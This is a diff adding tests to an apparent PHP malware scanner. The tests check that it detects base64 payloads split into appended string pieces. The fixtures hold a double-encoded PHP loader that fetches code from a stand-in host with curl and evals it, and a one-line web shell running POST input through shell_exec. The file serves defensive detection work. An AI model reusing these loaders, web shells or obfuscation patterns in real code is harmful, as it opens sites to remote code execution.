@@ -700,3 +700,59 @@ def test_other_regex_replacements_are_not_folded(pattern: bytes, repl: bytes, su
 def test_preg_filter_without_a_match_is_null_and_not_folded() -> None:
     assert fold_call("preg_filter", [b"/z/", b"", b"abc"], Budget()) is None
     assert fold_call("preg_replace", [b"/z/", b"", b"abc"], Budget()) == b"abc"
+
+
+# --- Base64 cut into pieces appended statement by statement --------------------------------------
+
+
+def _pieces(blob: str, size: int, form: str) -> str:
+    return "".join(form % blob[i : i + size] for i in range(0, len(blob), size))
+
+
+def test_pieces_appended_in_a_try_block_are_joined_and_decoded_twice() -> None:
+    loader = b"<?php\n$ch = curl_init('http://x.example.invalid/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
+    loader += b"$p = curl_exec($ch);\neval('?>' . $p);\n"
+    blob = base64.b64encode(base64.b64encode(loader)).decode()
+    data = (
+        '<?php\ntry {\n    $z = "";\n'
+        + _pieces(blob, 8, '    $z .= "%s";\n')
+        + "    $fn = 'base64_decode';\n"
+        "    $code = $fn($fn($z));\n    $out = '';\n"
+        "    foreach (token_get_all($code) as $t) { $out .= is_array($t) ? $t[1] : $t; }\n"
+        "    eval($out);\n} catch (\\Throwable $e) {\n    echo 'x';\n}\n"
+    ).encode()
+    reasons = decode_only(data, "x.php")
+    assert any(r.id == ID_HIDDEN and r.score >= 70 for r in reasons), [(r.id, r.description) for r in reasons]
+
+
+@pytest.mark.parametrize("form", ["$z .= '%s';\n", '$z[] = "%s";\n'])
+def test_pieces_of_a_file_too_large_to_interpret_are_joined_and_decoded(form: str) -> None:
+    page = (
+        b"<?php echo shell_exec($_POST['q']); ?>\n" + b"<div class='row'><span>listing</span></div>\n" * 1500
+    )
+    blob = base64.b64encode(page).decode()
+    data = ("<?php\n$z = 'PD9w';\n" + _pieces(blob[4:], 12, form)).encode()
+    data += b"$d = 'base64_decode';\neval('?>' . $d(is_array($z) ? implode('', $z) : $z));\n"
+    layer = DecodeLayer()
+    assert len(data) > layer.max_php_bytes
+    reasons = decode_only(data, "big.php", layer)
+    (r,) = [r for r in reasons if r.id == ID_HIDDEN]
+    assert "appended pieces -> base64_decode" in r.description and r.score >= 70
+
+
+def test_appended_pieces_that_are_not_code_or_not_base64_give_nothing() -> None:
+    image = base64.b64encode(bytes(range(256)) * 8).decode()
+    data = ("<?php\n$logo = '';\n" + _pieces(image, 64, "$logo .= '%s';\n") + "echo $logo;\n").encode()
+    html = "".join(f"$html .= '<li>{i}</li>';\n" for i in range(40))
+    data += ("$html = '';\n" + html + "echo $html;\n").encode()
+    layer = DecodeLayer()
+    payloads = layer.payloads(data, context_for("logo.php", len(data)), Budget(max_bytes=1 << 20))
+    assert not [p for p in payloads if p.chain and p.chain[0] == "appended pieces"]
+
+
+def test_appended_pieces_of_many_variables_stay_fast() -> None:
+    data = b"<?php\n" + b"".join(b'$v%d .= "QUFBQUFB";\n' % (i % 3) for i in range(20000))
+    budget = Budget(max_bytes=8 << 20, seconds=5.0)
+    layer = DecodeLayer()
+    assert layer.payloads(data, context_for("m.php", len(data)), budget) == []
+    assert not budget.expired()
